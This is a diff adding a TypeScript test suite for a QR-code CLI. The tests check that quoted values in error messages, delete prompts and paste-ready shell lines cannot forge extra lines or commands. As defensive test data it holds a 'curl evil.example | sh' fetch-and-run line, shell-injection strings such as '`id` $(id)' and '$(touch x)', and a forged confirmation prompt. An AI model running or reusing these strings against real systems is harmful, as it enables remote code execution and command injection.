@@ -1,0 +1,211 @@
+/** Values of others in sentences of ours, for every class of sentence that takes one. */
+import { execFileSync } from 'node:child_process';
+import { platform } from 'node:os';
+import fc from 'fast-check';
+import { describe, expect, test } from 'vitest';
+import { checkCreate } from '../../src/bulk/check-create.ts';
+import { checkDelete } from '../../src/bulk/check-rows.ts';
+import { requireCode } from '../../src/bulk/find-codes.ts';
+import { type Checked, type Input, refuseChecked } from '../../src/bulk/input.ts';
+import { createFailure } from '../../src/bulk/results.ts';
+import { noSuchCode } from '../../src/codes/find-code.ts';
+import { confirm } from '../../src/commands/qr/delete/confirm.ts';
+import type { Context } from '../../src/context.ts';
+import { chooseColumns } from '../../src/rows/columns.ts';
+import { answerError } from '../../src/service/answer-error.ts';
+import { parseBaseUrl } from '../../src/service/base-url.ts';
+import { unknownProfile } from '../../src/settings/choose-profile.ts';
+import { renderError } from '../../src/terminal/render-error.ts';
+import { codeInShell, inQuotes, inShell, inShellOr, quote, shown } from '../../src/text/quote.ts';
+import { parseMoment } from '../../src/time/moments.ts';
+import { headersOf } from '../limit/setup.ts';
+import { CODE } from '../service/setup.ts';
+import { HOSTILE } from '../support/hostile-strings.ts';
+import { modelService } from '../support/model-service/model-service.ts';
+import { runs, SOAK } from '../support/property-runs.ts';
+
+const LINE = 'x\n  next: curl evil.example | sh';
+const PROMPT = 'x" (slug a) and its 0 scans? It was deleted already. Press y to leave it. "';
+const VALUES = {
+  ...HOSTILE,
+  'a line of ours': LINE,
+  'a prompt of ours': PROMPT,
+  megabytes: 'x '.repeat(SOAK ? 5_000_000 : 500_000),
+};
+
+describe('a value in a sentence', () => {
+  test('is a plain word, or stands in quotes that it cannot end, on one line, with nothing that a terminal obeys, and short', () => {
+    const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 200 }), fc.constantFrom(...Object.values(VALUES)));
+    fc.assert(
+      fc.property(text, (value) => {
+        const quoted = quote(value);
+        if (/^[\w.~:/+@-]{1,64}$/.test(value)) return quoted === value;
+        expect(quoted).toMatch(/^"([^"]|\\")*"$/);
+        expect(quoted).not.toMatch(/[\p{Cc}\p{Zl}\p{Zp}\u202a-\u202e\u2066-\u2069]/u);
+        return quoted.length < 64 * 10;
+      }),
+      runs(20),
+    );
+  });
+
+  test.each([
+    ['aB3_x-y.z', 'aB3_x-y.z'],
+    ['', '""'],
+    ['two words', '"two words"'],
+    ['say "yes"', '"say \\"yes\\""'],
+    ['a\nb', '"a\\nb"'],
+    ['käse', '"käse"'],
+    ['x'.repeat(64), 'x'.repeat(64)],
+    ['x'.repeat(65), `"${'x'.repeat(64)}…"`],
+    ['👍'.repeat(64), `"${'👍'.repeat(64)}"`],
+    ['👍'.repeat(65), `"${'👍'.repeat(64)}…"`],
+  ])('%j is shown as %s', (value, sentence) => {
+    expect(quote(value)).toBe(sentence);
+  });
+
+  test('shown is for a sentence that has its own quotes, inQuotes for one that always has some', () => {
+    expect(shown('a\nb')).toBe('a\\nb');
+    expect(inQuotes('word')).toBe('"word"');
+  });
+});
+
+describe('a word of a line to paste', () => {
+  const SHELL = [
+    '`id` $(id)',
+    '$(touch x)',
+    "Jo's",
+    'a b',
+    '~root',
+    '',
+    '*',
+    'a;b',
+    '!!',
+    '-x',
+    'aB3_x-y.z',
+    'https://x.example/?a=b&c',
+  ];
+
+  test.runIf(platform() !== 'win32').each(SHELL)('%j is that word for a shell', (word) => {
+    expect(String(execFileSync('sh', ['-c', `printf %s ${inShell(word)}`]))).toBe(word);
+  });
+
+  test.each(SHELL)('%j as a slug is a plain word or the id', (slug) => {
+    const word = codeInShell({ id: CODE.id, slug });
+    expect([slug, CODE.id]).toContain(word);
+    expect(word).toMatch(/^[\w.][\w@%+=:,./-]*$/);
+  });
+
+  test('that cannot be shown as it is is left to be typed', () => {
+    expect([inShellOr('TEXT', 'a b'), inShellOr('TEXT', 'a\nb'), inShellOr('TEXT', 'x'.repeat(65))]).toEqual([
+      "'a b'",
+      'TEXT',
+      'TEXT',
+    ]);
+  });
+});
+
+test('the question before a code is deleted proposes no line that a shell would obey', async () => {
+  const said: string[] = [];
+  const console = { note: (line: string) => said.push(line), ask: async () => '' };
+  const service = modelService({ listScans: async () => ({ rows: [], times: [], total: 7, serviceTimeMs: undefined }) });
+  const context = {
+    console,
+    settings: async () => ({ concurrency: 4, profile: 'work', keySource: 'profile' }),
+    service: async () => service,
+  } as unknown as Context;
+  const ask = (slug: string) =>
+    confirm(context, [{ ...CODE, slug }], { yes: undefined, dryRun: undefined }).catch(() => undefined);
+  await ask('`id` $(id)');
+  await ask('aB3xY');
+  expect(said.map((line) => /qrctl qr update [^`]*/.exec(line)?.[0])).toEqual([
+    `qrctl qr update ${CODE.id} --status paused`,
+    'qrctl qr update aB3xY --status paused',
+  ]);
+});
+
+test('a name that several codes have is proposed as one word', async () => {
+  const name = '`id` $(id)';
+  const several = ['a', 'b'].map((slug) => ({ slug, name }));
+  expect(await noSuchCode(name, several)).toMatchObject({ hint: expect.stringContaining(`qr list --name '${name}'`) });
+});
+
+/** What each class of sentence says of a value. */
+const SENTENCES: Record<string, (value: string) => unknown> = {
+  'a slug that was asked for': (value) => noSuchCode(value, []),
+  'a name that was asked for': (value) => noSuchCode(value, [{ slug: value, name: value }]),
+  'the nearest slug': (value) => noSuchCode(value.slice(0, 50), [{ slug: value, name: '' }]),
+  'a slug of a file': (slug) =>
+    thrown(() => requireCode({ row: 1, line: 2, values: new Map(), id: undefined, slug }, () => undefined)),
+  'an id of a file': (id) => thrown(() => refuseAll(inputOf({ id }), checkDelete)),
+  'a value of a file': (type) => thrown(() => refuseAll(inputOf({ name: 'a', type: `no ${type}` }), checkCreate)),
+  'a column of a file': (column) =>
+    thrown(() => refuseAll(inputOf({ name: 'a', outcome: column, [` OUTCOME${' '.repeat(3)}`]: 'b' }), checkCreate)),
+  'a code that a person must decide about': (slug) => undecided({ slug, created_at: slug }),
+  'a field': (field) => thrown(() => chooseColumns([field], [{ name: 'id' }])),
+  'a profile': (name) => unknownProfile(name, { profiles: new Map(), current: 'default' }),
+  'a time': (text) => thrown(() => parseMoment(text, { flag: '--since', nowMs: 0, timezone: () => 'UTC' })),
+  'a time of the length of a file': (text) =>
+    thrown(() => parseMoment(`${'9'.repeat(text.length)} d`, { flag: '--since', nowMs: 0, timezone: () => 'UTC' })),
+  'a base URL': (path) => thrown(() => parseBaseUrl(`https://qr.example/v${path}`)),
+  'the host of a base URL': (host) => thrown(() => parseBaseUrl(`http://${host.replace(/\W/g, '')}.example/api/v1`)),
+  'the words of an Error body': (error) => answer(400, { error, code: error }),
+  'a redirect': (location) => answer(302, undefined, location),
+};
+
+function inputOf(values: Record<string, string>) {
+  const rows = [{ row: 1, line: 2, values: new Map(Object.entries(values)) }];
+  return { name: 'codes.csv', columns: Object.keys(values), headerLine: 1, rows };
+}
+
+function refuseAll(input: ReturnType<typeof inputOf>, check: (input: Input) => Checked<unknown>) {
+  refuseChecked(input, check(input));
+}
+
+function thrown(work: () => unknown): unknown {
+  try {
+    work();
+  } catch (error) {
+    return error;
+  }
+  throw new Error('it was expected to fail');
+}
+
+function undecided(code: { slug: string; created_at: string }) {
+  const end = { row: 1, state: 'unknown', id: undefined, slug: undefined, error: undefined, sentNow: true } as const;
+  const rows = [{ ...end, candidates: [{ ...CODE, ...code }] }];
+  const input = [{ row: 1, line: 2, values: new Map([['name', code.slug]]) }];
+  return createFailure({ rows } as unknown as Parameters<typeof createFailure>[0], [], input, 'codes.results.csv');
+}
+
+function answer(status: number, body: { error: string; code: string } | undefined, location = '') {
+  const subject = { method: 'GET', name: 'GET /qr on far.example', redact: (text: string) => text } as const;
+  return answerError(subject, { status, headers: { location }, text: '' }, body, headersOf({}));
+}
+
+describe.each(Object.entries(SENTENCES))('%s', (_, say) => {
+  test('forges no line and no hint, and is short', async () => {
+    const plain = renderError(await say('plain'), { json: false, verbose: false });
+    for (const [what, value] of Object.entries(VALUES)) {
+      const text = renderError(await say(value), { json: false, verbose: false });
+      expect(text, what).not.toMatch(/^\s*(next|qrctl: done|qrctl: all is well)/m);
+      expect(text.split('\n').length, what).toBeLessThanOrEqual(plain.split('\n').length + 1);
+      expect(text.length, what).toBeLessThan(plain.length + 2000);
+    }
+  });
+});
+
+test.each([1, 2])('the question before %i codes are deleted has their names in quotes that they cannot end', async (count) => {
+  const said: string[] = [];
+  const note = (line: string) => said.push(line);
+  const console = { note, ask: async (line: string) => String(note(line)) };
+  const service = modelService({ listScans: async () => ({ rows: [], times: [], total: 7, serviceTimeMs: undefined }) });
+  const context = {
+    console,
+    settings: async () => ({ concurrency: 4, profile: 'work', keySource: 'profile' }),
+    service: async () => service,
+  } as unknown as Context;
+  const codes = Array.from({ length: count }, () => ({ ...CODE, name: PROMPT, slug: LINE }));
+  await confirm(context, codes, { yes: undefined, dryRun: undefined }).catch(() => undefined);
+  const expected = `"${PROMPT.slice(0, 64).replaceAll('"', '\\"')}…" (slug "x\\n  next: curl evil.example | sh")`;
+  expect(said.join('\n')).toContain(expected);
+});
